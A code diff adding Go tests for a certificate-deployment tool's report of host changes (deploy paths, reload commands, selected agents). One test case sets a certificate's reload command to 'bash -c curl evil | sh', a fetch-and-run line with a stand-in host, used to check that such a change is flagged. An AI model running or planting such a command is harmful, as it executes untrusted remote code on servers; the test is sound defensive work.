@@ -7,6 +7,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -142,6 +143,11 @@ func TestBuild(t *testing.T) {
 				},
 			},
 		},
+		// The new agent web-01 is selected by shop-frontend: it starts
+		// writing and running these there.
+		Hosts: []HostChange{{Certificate: "shop-frontend", Agents: []string{"web-01"},
+			Paths: []string{"/etc/ssl/shop/cert.pem", "/etc/ssl/shop/key.pem"}, Reload: []string{"nginx", "-s", "reload"},
+			Changed: []string{"agents"}}},
 	}
 	if diff := cmp.Diff(got, want); diff != "" {
 		t.Errorf("Build() mismatch (-got +want):\n%s", diff)
@@ -401,6 +407,35 @@ func TestMarkdownCaps(t *testing.T) {
 	for _, hidden := range []string{"spec.dnsNames[50]", "Certificate/c-199"} {
 		if strings.Contains(md, hidden) {
 			t.Errorf("Markdown() shows %q, beyond the caps", hidden)
+		}
+	}
+}
+
+// TestHostChanges: the hosts section lists a certificate when its files,
+// reload or agents change, and only then.
+func TestHostChanges(t *testing.T) {
+	agent := &spec.Object{Kind: spec.KindAgent, Name: "web-01", Labels: map[string]string{"role": "web"}, Spec: &spec.AgentSpec{}}
+	cert := func(reload ...string) *spec.Object {
+		return &spec.Object{Kind: spec.KindCertificate, Name: "shop", Spec: &spec.CertificateSpec{IssuerRef: "ca",
+			Deploy: &spec.Deployment{AgentSelector: &spec.LabelSelector{MatchLabels: map[string]string{"role": "web"}},
+				Files: spec.DeployFiles{Cert: "/etc/ssl/shop/cert.pem"}, Reload: reload}}}
+	}
+	for _, tt := range []struct {
+		name       string
+		base, head map[spec.Key]*spec.Object
+		want       []string // Changed of the one entry; nil: no entry
+	}{
+		{"unchanged", objects(agent, cert("true")), objects(agent, cert("true")), nil},
+		{"new certificate", objects(agent), objects(agent, cert("true")), []string{"new"}},
+		{"reload changed", objects(agent, cert("true")), objects(agent, cert("bash", "-c", "curl evil | sh")), []string{"reload"}},
+		{"a new agent selected", objects(cert("true")), objects(agent, cert("true")), []string{"agents"}},
+	} {
+		got := hostChanges(tt.base, tt.head)
+		switch {
+		case tt.want == nil && len(got) != 0:
+			t.Errorf("%s: got %+v, want no host changes", tt.name, got)
+		case tt.want != nil && (len(got) != 1 || !slices.Equal(got[0].Changed, tt.want)):
+			t.Errorf("%s: got %+v, want one entry changed %v", tt.name, got, tt.want)
 		}
 	}
 }
